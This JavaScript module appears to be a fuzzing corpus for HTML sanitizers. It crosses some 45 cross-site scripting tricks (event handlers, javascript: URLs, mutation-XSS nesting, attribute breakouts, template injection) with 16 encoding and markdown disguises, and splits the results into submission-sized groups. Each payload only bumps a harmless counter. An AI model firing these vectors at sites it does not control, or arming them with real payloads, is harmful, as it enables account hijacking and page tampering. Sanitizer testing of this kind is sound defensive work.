// What people try to make a page run something: each kind of trick in each of several disguises. Whatever runs calls `hit`.

const HIT = "window.__hit=(window.__hit||0)+1";

/** The tricks, as HTML. */
const TRICKS = [
  `<script>${HIT}</script>`,
  `<script src=data:text/javascript,${HIT}></script>`,
  `<script type=module>${HIT}</script>`,
  `<img src=x onerror=${HIT}>`,
  `<img src=x onerror="${HIT}" />`,
  `<img src="x" onload='${HIT}' srcset="x 1x">`,
  `<svg onload=${HIT}>`,
  `<svg><script>${HIT}</script></svg>`,
  `<svg><animate onbegin=${HIT} attributeName=x dur=1s>`,
  `<svg><a xlink:href="javascript:${HIT}"><text y=20>x</text></a></svg>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${HIT}>`,
  `<iframe src="javascript:parent.${HIT}"></iframe>`,
  `<iframe srcdoc="<script>parent.${HIT}</script>"></iframe>`,
  `<object data="javascript:${HIT}"></object>`,
  `<embed src="javascript:${HIT}">`,
  `<body onload=${HIT}>`,
  `<details open ontoggle=${HIT}><summary>x</summary></details>`,
  `<video><source onerror=${HIT}></video>`,
  `<video src=x onerror=${HIT}></video>`,
  `<audio src=x onerror=${HIT}></audio>`,
  `<input onfocus=${HIT} autofocus>`,
  `<select onfocus=${HIT} autofocus></select>`,
  `<textarea onfocus=${HIT} autofocus></textarea>`,
  `<marquee onstart=${HIT}>x</marquee>`,
  `<a href="javascript:${HIT}">x</a>`,
  `<a href="java&#10;script:${HIT}">x</a>`,
  `<a href="&#106;avascript:${HIT}">x</a>`,
  `<a href="data:text/html,<script>${HIT}</script>">x</a>`,
  `<a href="vbscript:${HIT}">x</a>`,
  `<form action="javascript:${HIT}"><button>x</button></form>`,
  `<button formaction="javascript:${HIT}">x</button>`,
  `<link rel=stylesheet href="data:text/css,*{color:red}" onload=${HIT}>`,
  `<style onload=${HIT}></style>`,
  `<style>@import 'javascript:${HIT}';</style>`,
  `<meta http-equiv=refresh content="0;url=javascript:${HIT}">`,
  `<base href="javascript:${HIT}//">`,
  `<template><script>${HIT}</script></template>`,
  `<noscript><p title="</noscript><img src=x onerror=${HIT}>">`,
  `<xmp><img src=x onerror=${HIT}></xmp>`,
  `<div style="background:url(javascript:${HIT})" onmouseover=${HIT}>x</div>`,
  `<p onclick=${HIT} tabindex=1 onfocus=${HIT}>x</p>`,
  `"><img src=x onerror=${HIT}>`,
  `'-${HIT}-'`,
  `{{constructor.constructor('${HIT}')()}}`,
  `<portal src="javascript:${HIT}">`,
];

/** The disguises. */
const DISGUISES = [
  (t) => t,
  (t) => t.toUpperCase().replaceAll("WINDOW.__HIT", "window.__hit"),
  (t) => t.replace("<", "<\u0000"),
  (t) => t.replace(" ", "\t"),
  (t) => t.replace(" ", "/"),
  (t) => t.replaceAll("<", "&lt;").replaceAll(">", "&gt;"),
  (t) => t.replaceAll("<", "&#60;"),
  (t) => t.slice(0, -1),
  (t) => `<!--${t}-->`,
  (t) => `<!--><!-- -->${t}`,
  (t) => `[x](${t.includes("javascript:") ? "javascript:" : ""}${t})`,
  (t) => `![${t}](x "${t}")`,
  (t) => `<${t}>`,
  (t) => `> - ${t}`,
  (t) => `\`${t}\``,
  (t) => `[a]: <javascript:${HIT}> "${t}"\n[a]`,
];

/** Every trick in every disguise, each once. */
export const vectors = [...new Set(TRICKS.flatMap((trick) => DISGUISES.map((disguise) => disguise(trick))))];

/** Vectors in groups that fit into one contribution. */
export function groups(most = 6_500) {
  const made = [[]];
  let length = 0;
  for (const one of vectors) {
    if (length + one.length + 2 > most) {
      made.push([]);
      length = 0;
    }
    made.at(-1).push(one);
    length += one.length + 2;
  }
  return made;
}
